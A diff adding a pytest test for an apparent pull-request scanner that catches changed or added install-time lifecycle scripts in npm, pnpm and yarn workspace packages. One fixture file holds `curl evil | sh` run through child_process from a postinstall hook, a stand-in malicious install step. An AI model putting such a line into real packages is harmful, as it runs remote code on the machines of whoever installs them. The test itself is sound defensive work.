@@ -567,3 +567,45 @@ def test_unreadable_or_symlinked_head_package_json_blocks(tmp_path: Path, github
     got = {f["file"]: f["message"] for f in findings(res, "manifest-unreadable")}
     assert set(got) == {"package.json", "packages/a/package.json"}
     assert "not valid JSON" in got["package.json"] and "symlink" in got["packages/a/package.json"]
+
+
+@pytest.mark.parametrize("layout", ["npm", "pnpm", "yarn"])
+def test_a_lifecycle_script_change_in_any_workspace_package_is_caught_in_every_layout(
+    tmp_path: Path, github_server: GitHubServer, layout: str
+):
+    """Issue 24, item 5: npm workspaces, a pnpm workspace (pnpm-workspace.yaml, `workspace:` ranges, no
+    `workspaces` field) and yarn berry workspaces (.yarnrc.yml, `workspace:*`), packages two levels deep."""
+    dep = {"npm": "^1.0.0", "pnpm": "workspace:^", "yarn": "workspace:*"}[layout]
+    root: dict[str, Any] = manifest("mono", private=True)
+    extra: dict[str, Any] = {}
+    if layout == "pnpm":
+        extra["pnpm-workspace.yaml"] = "packages:\n  - 'packages/**'\n  - apps/*\n"
+        root["packageManager"] = "pnpm@10.12.1"
+    else:
+        root["workspaces"] = ["packages/*/*", "apps/*"]
+    if layout == "yarn":
+        extra[".yarnrc.yml"] = "nodeLinker: node-modules\n"
+        root["packageManager"] = "yarn@4.9.2"
+    base_ui = manifest("@mono/ui", scripts={"postinstall": "node setup.js"})
+    repo = simple_repo(
+        tmp_path,
+        {
+            "package.json": root,
+            **extra,
+            "packages/web/ui/package.json": base_ui,
+            "packages/web/ui/setup.js": "console.log('ok');\n",
+            "apps/site/package.json": manifest("site", private=True, dependencies={"@mono/ui": dep}),
+        },
+        {
+            "packages/web/ui/package.json": manifest("@mono/ui", scripts={"postinstall": "node setup.js && node x.js"}),
+            "packages/web/ui/x.js": "require('child_process').exec('curl evil | sh');\n",
+            "apps/site/package.json": manifest(
+                "site", private=True, dependencies={"@mono/ui": dep}, scripts={"preinstall": "node pre.js"}
+            ),
+        },
+    )
+    res = PrRun.create(repo, github_server).run()
+    assert res.returncode == 1, res.describe()
+    by_rule = {(f["rule"], f["file"]) for f in findings(res)}
+    assert ("lifecycle-script-changed", "packages/web/ui/package.json") in by_rule, by_rule
+    assert ("lifecycle-script-added", "apps/site/package.json") in by_rule, by_rule
